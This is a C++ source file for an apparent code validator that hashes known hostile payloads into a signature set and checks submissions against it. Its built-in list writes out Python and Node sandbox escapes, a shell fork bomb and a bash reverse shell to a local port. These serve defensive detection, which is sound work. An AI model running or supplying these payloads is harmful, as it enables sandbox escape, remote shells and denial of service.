#include "validator/signature_set.hpp"

#include <cctype>
#include <iomanip>
#include <sstream>

#include <openssl/evp.h>

#include "utils/common.hpp"
#include "utils/logging.hpp"

namespace sandbar::validator {

std::string Sha256Hex(std::string_view data) {
    unsigned char hash[EVP_MAX_MD_SIZE];
    unsigned int length = 0;
    if (EVP_Digest(data.data(), data.size(), hash, &length, EVP_sha256(), nullptr) != 1) {
        return {};
    }
    std::ostringstream oss;
    oss << std::hex << std::setfill('0');
    for (unsigned int i = 0; i < length; ++i) {
        oss << std::setw(2) << static_cast<int>(hash[i]);
    }
    return oss.str();
}

std::string CompactForm(std::string_view source) {
    std::string compact;
    compact.reserve(source.size());
    for (const char c : source) {
        if (!std::isspace(static_cast<unsigned char>(c))) {
            compact.push_back(static_cast<char>(std::tolower(static_cast<unsigned char>(c))));
        }
    }
    while (!compact.empty() && compact.back() == ';') {
        compact.pop_back();
    }
    return compact;
}

const std::vector<std::string>& SignatureSet::BuiltInPayloads() {
    static const std::vector<std::string> kPayloads = {
        "import os; os.system('ls')",
        "__import__('os').system('ls')",
        "eval('__import__(\"os\").system(\"ls\")')",
        "().__class__.__bases__[0].__subclasses__()",
        "[].__class__.__base__.__subclasses__()",
        "''.__class__.__mro__[1].__subclasses__()",
        "require('child_process').execSync('ls')",
        "this.constructor.constructor('return process')()",
        ":(){ :|:& };:",
        "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
    };
    return kPayloads;
}

SignatureSet::SignatureSet() {
    for (const auto& payload : BuiltInPayloads()) {
        AddPayload(payload);
    }
}

SignatureSet::SignatureSet(const std::vector<std::string>& extra_digests) : SignatureSet() {
    for (const auto& digest : extra_digests) {
        AddDigest(digest);
    }
}

void SignatureSet::AddPayload(std::string_view payload) {
    digests_.insert(Sha256Hex(payload));
    digests_.insert(Sha256Hex(CompactForm(payload)));
}

void SignatureSet::AddDigest(std::string digest) {
    digest = utils::ToLower(utils::Trim(digest));
    if (digest.size() != 64 || digest.find_first_not_of("0123456789abcdef") != std::string::npos) {
        utils::LogLine(utils::LogLevel::kWarn, "validator") << "ignoring malformed signature " << digest;
        return;
    }
    digests_.insert(std::move(digest));
}

}  // namespace sandbar::validator
